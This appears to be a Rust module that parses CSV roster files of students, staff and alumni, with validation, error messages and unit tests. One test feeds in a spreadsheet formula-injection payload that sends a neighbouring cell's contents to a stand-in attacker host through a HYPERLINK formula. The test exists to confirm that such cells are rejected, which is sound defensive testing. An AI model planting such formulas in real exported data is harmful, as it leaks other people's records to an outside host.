//! Reading a roster from a file of comma-separated values, as spreadsheets and student records write it.
//!
//! Columns come in any order, and their names are taken as people write them. Every line that cannot be read is named,
//! with what was found and what would be right; a column nobody knows is a mistake too, since a misspelt `valid_until`
//! would otherwise be a role without an end.

use std::collections::BTreeMap;
use std::fmt;

use csv::{ByteRecord, ReaderBuilder};
use jiff::civil::Date;
use jiff::tz::TimeZone;
use lodge_core::member::{Field, Role};
use lodge_core::name::{Address, DisplayName, clean_line};
use lodge_core::roster::{Entry, MailAddress};
use lodge_core::time::Timestamp;

use crate::cells::is_formula;

/// People as a file lists them, each with the line that they stand on.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sheet {
    /// Who.
    pub entries: Vec<Entry>,
    /// On which line each of them begins, counted from 1.
    pub lines: Vec<u64>,
}

/// A line that cannot be taken in.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BadLine {
    /// Which, counted from 1.
    pub line: u64,
    /// What is wrong, and what would be right.
    pub what: String,
}

impl fmt::Display for BadLine {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "line {}: {}", self.line, self.what)
    }
}

/// What stands in a column.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Column {
    Name,
    Email,
    MatrixId,
    Role,
    Cohort,
    Organisation,
    ValidUntil,
    Course,
    Headline,
}

/// The longest course, cohort, organisation or headline, in characters.
const VALUE_CHARS_MAX: usize = 200;

/// The columns there are, for whoever has another.
const COLUMNS: &str = "name, email, matrix_id, role, cohort, organisation, valid_until, course, headline";

/// Reads a roster. The roles hold through their last day in the service's zone.
///
/// # Errors
/// Every line that cannot be read, in the file's order.
pub fn read(bytes: &[u8], zone: &TimeZone) -> Result<Sheet, Vec<BadLine>> {
    let mut reader =
        ReaderBuilder::new().delimiter(delimiter(bytes)).flexible(true).has_headers(false).from_reader(bytes);
    let mut records = reader.byte_records();
    let header = match records.next() {
        Some(Ok(header)) => header,
        Some(Err(error)) => return Err(vec![BadLine { line: 1, what: error.to_string() }]),
        None => return Err(vec![bad(1, "expected the names of the columns, found an empty file")]),
    };
    let columns = columns(&header).map_err(|whats| whats.into_iter().map(|what| bad(1, what)).collect::<Vec<_>>())?;
    let mut sheet = Sheet { entries: Vec::new(), lines: Vec::new() };
    let mut wrong = Vec::new();
    let mut lines = Lines { bytes, at: 0, line: 1 };
    for record in records {
        let record = record.map_err(|error| vec![bad(lines.line, error.to_string())])?;
        let line = lines.of(&record);
        if record.iter().all(|cell| cell.trim_ascii().is_empty()) {
            continue;
        }
        match cells(&record, &columns).map_err(|what| vec![what]).and_then(|cells| entry(&cells, zone)) {
            Ok(entry) => {
                sheet.entries.push(entry);
                sheet.lines.push(line);
            }
            Err(whats) => wrong.extend(whats.into_iter().map(|what| bad(line, what))),
        }
    }
    if wrong.is_empty() { Ok(sheet) } else { Err(wrong) }
}

/// Counts the lines of a file.
struct Lines<'a> {
    bytes: &'a [u8],
    at: usize,
    line: u64,
}

impl Lines<'_> {
    /// On which line a record begins; they are asked about in their order. Where the reader says that it begins, the end
    /// of the line before may still be, and empty lines.
    fn of(&mut self, record: &ByteRecord) -> u64 {
        let begins = record.position().and_then(|place| usize::try_from(place.byte()).ok()).unwrap_or(self.at);
        while let Some(byte) = self.bytes.get(self.at).filter(|byte| self.at < begins || b"\r\n".contains(byte)) {
            self.line += u64::from(*byte == b'\n');
            self.at += 1;
        }
        self.line
    }
}

/// What separates the cells: the first line has it between its names.
fn delimiter(bytes: &[u8]) -> u8 {
    let first = bytes.split(|byte| *byte == b'\n').next().unwrap_or_default();
    let cells = |by: u8| first.split(|byte| *byte == by).count();
    // Of equals the last is taken, so the usual one stands there.
    [b'\t', b';', b','].into_iter().max_by_key(|by| cells(*by)).unwrap_or(b',')
}

/// What stands in each column, from the names in the first line.
fn columns(header: &ByteRecord) -> Result<Vec<Column>, Vec<String>> {
    let mut columns = Vec::new();
    let mut wrong = Vec::new();
    for (place, name) in header.iter().enumerate() {
        let name = text(name).unwrap_or_default().trim().to_owned();
        match column(&name) {
            Some(known) if columns.contains(&known) => {
                wrong.push(format!("two columns are the {}; expected one of each", known.name()));
            }
            Some(known) => columns.push(known),
            None if name.is_empty() => {
                wrong.push(format!("column {} has no name; expected one of {COLUMNS}", place + 1));
            }
            None => wrong.push(format!("there is no column \"{}\"; expected some of {COLUMNS}", shortened(&name))),
        }
    }
    let has = |column: Column| columns.contains(&column);
    if wrong.is_empty() {
        let missing = [Column::Name, Column::Role].into_iter().filter(|column| !has(*column));
        wrong.extend(missing.map(|column| format!("there is no column {}; every person has one", column.name())));
        if !has(Column::Email) && !has(Column::MatrixId) {
            wrong.push("there is neither a column email nor matrix_id; people are found by one of them".to_owned());
        }
    }
    if wrong.is_empty() { Ok(columns) } else { Err(wrong) }
}

/// What a column of this name holds, however it is spaced, capitalised and joined.
fn column(name: &str) -> Option<Column> {
    let plain: String = name.chars().filter(char::is_ascii_alphanumeric).collect::<String>().to_ascii_lowercase();
    Some(match plain.as_str() {
        "name" | "fullname" | "displayname" => Column::Name,
        "email" | "emailaddress" | "mail" | "mailaddress" | "address" => Column::Email,
        "matrixid" | "matrix" | "mxid" | "matrixaddress" | "matrixuser" | "matrixuserid" => Column::MatrixId,
        "role" => Column::Role,
        "cohort" | "group" | "yeargroup" | "intake" => Column::Cohort,
        "organisation" | "organization" | "employer" | "company" => Column::Organisation,
        "validuntil" | "until" | "validto" | "ends" | "endson" | "enddate" | "expires" => Column::ValidUntil,
        "course" | "degree" | "programme" | "program" | "subject" => Column::Course,
        "headline" | "job" | "jobtitle" | "position" => Column::Headline,
        _ => return None,
    })
}

impl Column {
    fn name(self) -> &'static str {
        match self {
            Self::Name => "name",
            Self::Email => "email",
            Self::MatrixId => "matrix_id",
            Self::Role => "role",
            Self::Cohort => "cohort",
            Self::Organisation => "organisation",
            Self::ValidUntil => "valid_until",
            Self::Course => "course",
            Self::Headline => "headline",
        }
    }
}

/// What a line says, without what it says nothing about.
fn cells(record: &ByteRecord, columns: &[Column]) -> Result<BTreeMap<Column, String>, String> {
    if record.len() != columns.len() {
        return Err(format!(
            "{} values, where the first line names {} columns; a value with a comma in it stands in \"quotes\"",
            record.len(),
            columns.len()
        ));
    }
    let mut cells = BTreeMap::new();
    for (column, cell) in columns.iter().zip(record) {
        let value = text(cell).ok_or_else(|| format!("{}: not UTF-8; save the file as CSV UTF-8", column.name()))?;
        let value = clean_line(value);
        if !value.is_empty() {
            cells.insert(*column, value);
        }
    }
    Ok(cells)
}

/// The person on a line, or all that is wrong with it.
fn entry(cells: &BTreeMap<Column, String>, zone: &TimeZone) -> Result<Entry, Vec<String>> {
    let mut wrong = Vec::new();
    let mail = read_cell(cells, Column::Email, &mut wrong, mail);
    let address = read_cell(cells, Column::MatrixId, &mut wrong, |value| Address::typed(value).map_err(text_of));
    let until = read_cell(cells, Column::ValidUntil, &mut wrong, |value| last_day(value, zone));
    let name = read_cell(cells, Column::Name, &mut wrong, name);
    let role = read_cell(cells, Column::Role, &mut wrong, role);
    let cohort = read_cell(cells, Column::Cohort, &mut wrong, short);
    let mut details = BTreeMap::new();
    for (column, field) in [
        (Column::Organisation, Field::Organisation),
        (Column::Course, Field::Course),
        (Column::Headline, Field::Headline),
    ] {
        details.extend(read_cell(cells, column, &mut wrong, short).map(|value| (field, value)));
    }
    for (column, expected) in [(Column::Name, "a name"), (Column::Role, ROLES)] {
        if !cells.contains_key(&column) {
            wrong.push(format!("{}: expected {expected}, found nothing", column.name()));
        }
    }
    match (name, role) {
        (Some(name), Some(role)) if wrong.is_empty() => Ok(Entry { mail, address, name, role, cohort, details, until }),
        (Some(_) | None, _) => Err(wrong),
    }
}

/// What a cell says, if it says anything; what is wrong with it is noted.
fn read_cell<T>(
    cells: &BTreeMap<Column, String>,
    column: Column,
    wrong: &mut Vec<String>,
    read: impl FnOnce(&str) -> Result<T, String>,
) -> Option<T> {
    match read(cells.get(&column)?) {
        Ok(value) => Some(value),
        Err(what) => {
            wrong.push(format!("{}: {what}", column.name()));
            None
        }
    }
}

/// An address that is the same in a letter as in the list.
fn mail(value: &str) -> Result<MailAddress, String> {
    let mail = MailAddress::parse(value).map_err(text_of)?;
    if is_formula(mail.as_str()) {
        return Err(format!(
            "\"{}\" is what spreadsheets take for a formula; expected an address that begins with a letter or a digit",
            shortened(value)
        ));
    }
    Ok(mail)
}

/// A name that spreadsheets show and do not compute: whatever is made of the list may be opened in one.
fn name(value: &str) -> Result<DisplayName, String> {
    let name = DisplayName::parse(value).map_err(text_of)?;
    if is_formula(name.as_str()) {
        return Err(format!(
            "expected a name, found \"{}\", which spreadsheets take for a formula; write the name without the sign at its beginning",
            shortened(value)
        ));
    }
    Ok(name)
}

/// The roles that can be listed.
const ROLES: &str = "student, alumnus, employer, staff, intern or administrator";

fn role(value: &str) -> Result<Role, String> {
    let word = value.to_lowercase();
    Role::from_word(&word).ok_or_else(|| format!("expected {ROLES}, found \"{}\"", shortened(value)))
}

/// The moment at which a day is over.
fn last_day(value: &str, zone: &TimeZone) -> Result<Timestamp, String> {
    let wrong = || format!("expected a date such as 2027-06-30, found \"{}\"", shortened(value));
    let day: Date = value.parse().map_err(|_| wrong())?;
    // A date with a time behind it is read too, and would lose the time.
    if day.to_string() != value {
        return Err(wrong());
    }
    let next = day.tomorrow().and_then(|next| next.to_zoned(zone.clone())).map_err(|_| wrong())?;
    Ok(Timestamp::from_millis(next.timestamp().as_millisecond()))
}

fn short(value: &str) -> Result<String, String> {
    let found = value.chars().count();
    if found > VALUE_CHARS_MAX {
        return Err(format!("expected at most {VALUE_CHARS_MAX} characters, found {found}"));
    }
    Ok(value.to_owned())
}

fn text(cell: &[u8]) -> Option<&str> {
    std::str::from_utf8(cell).ok()
}

fn text_of(error: impl fmt::Display) -> String {
    error.to_string()
}

/// So much of it as fits into a line about it.
fn shortened(value: &str) -> String {
    value.chars().take(60).collect()
}

fn bad(line: u64, what: impl Into<String>) -> BadLine {
    BadLine { line, what: what.into() }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read_text(text: &str) -> Result<Sheet, Vec<BadLine>> {
        read(text.as_bytes(), &TimeZone::get("Europe/London").unwrap())
    }

    #[test]
    fn columns_come_in_any_order_under_the_names_that_people_give_them() {
        let plain = "name,email,matrix_id,role,cohort,organisation,valid_until,course,headline\n\
                     Sam Reed,Sam@mail.example,@sam:example.org,student,2026,,2027-06-30,\"History, second year\",\n";
        let sheet = read_text(plain).unwrap();
        let others = [
            format!("\u{feff}{plain}"),
            plain.replace('\n', "\r\n"),
            format!("{plain}\n,,,,,,,,\n"),
            "Role;Full Name;E-Mail;Matrix ID;Valid until;Course;Year Group\n\
             Student;Sam  Reed; sam@mail.example ;@Sam:example.org;2027-06-30;History, second year;2026"
                .to_owned(),
            "address\tROLE\tMXID\tname\tends\tsubject\tcohort\n\
             sam@mail.example\tstudent\t@sam:example.org\tSam Reed\t2027-06-30\tHistory, second year\t2026\n"
                .to_owned(),
        ];
        for other in others {
            assert_eq!(read_text(&other).unwrap(), sheet, "{other}");
        }
        let [sam] = &sheet.entries[..] else { panic!("one is listed") };
        assert_eq!((sam.role, sam.cohort.as_deref()), (Role::Student, Some("2026")));
        assert_eq!(sam.details[&Field::Course], "History, second year");
        assert_eq!(sheet.lines, [2]);
    }

    #[test]
    fn a_role_holds_through_its_last_day_in_the_services_zone() {
        let until = |day: &str| {
            let sheet =
                read_text(&format!("name,email,role,valid_until\nSam,sam@mail.example,student,{day}\n")).unwrap();
            sheet.entries[0].until.unwrap().as_millis()
        };
        let moment = |text: &str| text.parse::<jiff::Timestamp>().unwrap().as_millisecond();
        assert_eq!(until("2027-06-30"), moment("2027-06-30T23:00:00Z"), "summer time");
        assert_eq!(until("2026-12-31"), moment("2027-01-01T00:00:00Z"));
    }

    #[test]
    fn each_bad_line_is_named_with_what_is_wrong_and_what_would_be_right() {
        let head = "name,email,matrix_id,role,organisation,valid_until\n";
        let bad = [
            (
                "Sam,sam,,student,,",
                "email: not an email address: expected one such as \"sam@example.org\", found \"sam\"",
            ),
            (
                "Sam,,sam:example.org,student,,",
                "matrix_id: not a full Matrix id: expected one such as \"@sam:example.org\", found \"sam:example.org\"",
            ),
            (
                "Sam,sam@mail.example,,boss,,",
                "role: expected student, alumnus, employer, staff, intern or administrator, found \"boss\"",
            ),
            (
                "Sam,sam@mail.example,,,,",
                "role: expected student, alumnus, employer, staff, intern or administrator, found nothing",
            ),
            (",sam@mail.example,,student,,", "name: expected a name, found nothing"),
            (
                "S\u{0430}m,sam@mail.example,,student,,",
                "name: the name \"S\u{0430}m\" mixes alphabets so that it can be read as another name; write it in one \
                 alphabet",
            ),
            (
                "Sam,=sam@mail.example,,student,,",
                "email: \"=sam@mail.example\" is what spreadsheets take for a formula; expected an address that begins with \
                 a letter or a digit",
            ),
            (
                "=1+1,sam@mail.example,,student,,",
                "name: expected a name, found \"=1+1\", which spreadsheets take for a formula; write the name without the \
                 sign at its beginning",
            ),
            (
                "Sam,sam@mail.example,,student,,30/06/2027",
                "valid_until: expected a date such as 2027-06-30, found \"30/06/2027\"",
            ),
            (
                "Sam,sam@mail.example,,student,,2027-06-30T10:00",
                "valid_until: expected a date such as 2027-06-30, found \"2027-06-30T10:00\"",
            ),
            (
                "Sam,sam@mail.example,,student,,2027-02-30",
                "valid_until: expected a date such as 2027-06-30, found \"2027-02-30\"",
            ),
            (
                "Sam,sam@mail.example,,student",
                "4 values, where the first line names 6 columns; a value with a comma in it stands in \"quotes\"",
            ),
            (
                "Sam,sam@mail.example,,student,Reed, Sons and Co,",
                "7 values, where the first line names 6 columns; a value with a comma in it stands in \"quotes\"",
            ),
        ];
        let file = bad.iter().fold(head.to_owned(), |file, (line, _)| format!("{file}{line}\n"));
        let named = read_text(&file).unwrap_err();
        let expected = bad.iter().zip(2..).map(|((_, what), line)| BadLine { line, what: (*what).to_owned() });
        assert_eq!(named, expected.collect::<Vec<_>>());
        let long = format!("{head}\"Sam\",sam@mail.example,,student,{},\n", "x".repeat(201));
        assert_eq!(read_text(&long).unwrap_err()[0].what, "organisation: expected at most 200 characters, found 201");
        let mut latin = format!("{head}Sam,sam@mail.example,,student,Caf").into_bytes();
        latin.extend(b"\xe9,\n");
        let named = read(&latin, &TimeZone::UTC).unwrap_err();
        assert_eq!(named, [bad_line(2, "organisation: not UTF-8; save the file as CSV UTF-8")]);
    }

    #[test]
    fn no_name_is_a_formula_to_a_spreadsheet() {
        for sign in
            ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", " =", "\u{a0}+", "\u{200b}@", "\r\n=", "−", "﹣"]
        {
            let cell = format!("{sign}HYPERLINK(\"\"http://evil.example/?c=\"\"&D2)");
            let named = read_text(&format!(
                "name,email,role\nNoor,n@mail.example,student\n\"{cell}\",s@mail.example,student\n"
            ));
            let [BadLine { line: 3, what }] = &named.unwrap_err()[..] else { panic!("{cell}") };
            assert!(what.contains("which spreadsheets take for a formula"), "{what}");
        }
        for name in ["Anne-Marie", "Jean-", "O’Brien", "'Afa", "Sam (=Pat)"] {
            let sheet = read_text(&format!("name,email,role\n{name},s@mail.example,student\n")).unwrap();
            assert_eq!(sheet.entries[0].name.as_str(), name);
        }
    }

    #[test]
    fn a_line_that_stands_below_a_value_of_several_lines_has_its_own_number() {
        let file = "name,email,role\n\"Sam\nReed\",sam@mail.example,student\nNoor,noor@mail.example,boss\n";
        assert_eq!(read_text(file).unwrap_err()[0].line, 4);
    }

    #[test]
    fn a_first_line_that_leaves_something_open_is_named() {
        for (head, what) in [
            ("", "expected the names of the columns, found an empty file"),
            ("name,role", "there is neither a column email nor matrix_id; people are found by one of them"),
            ("email,role", "there is no column name; every person has one"),
            ("name,email", "there is no column role; every person has one"),
            ("name,email,role,e-mail", "two columns are the email; expected one of each"),
            (
                "name,email,role,valid_untill",
                &format!("there is no column \"valid_untill\"; expected some of {COLUMNS}"),
            ),
            ("name,email,role,", &format!("column 4 has no name; expected one of {COLUMNS}")),
        ] {
            let named = read_text(&format!("{head}\n")).or_else(|_| read_text(head)).unwrap_err();
            assert_eq!(named, [bad_line(1, what)], "{head}");
        }
    }

    fn bad_line(line: u64, what: &str) -> BadLine {
        BadLine { line, what: what.to_owned() }
    }
}
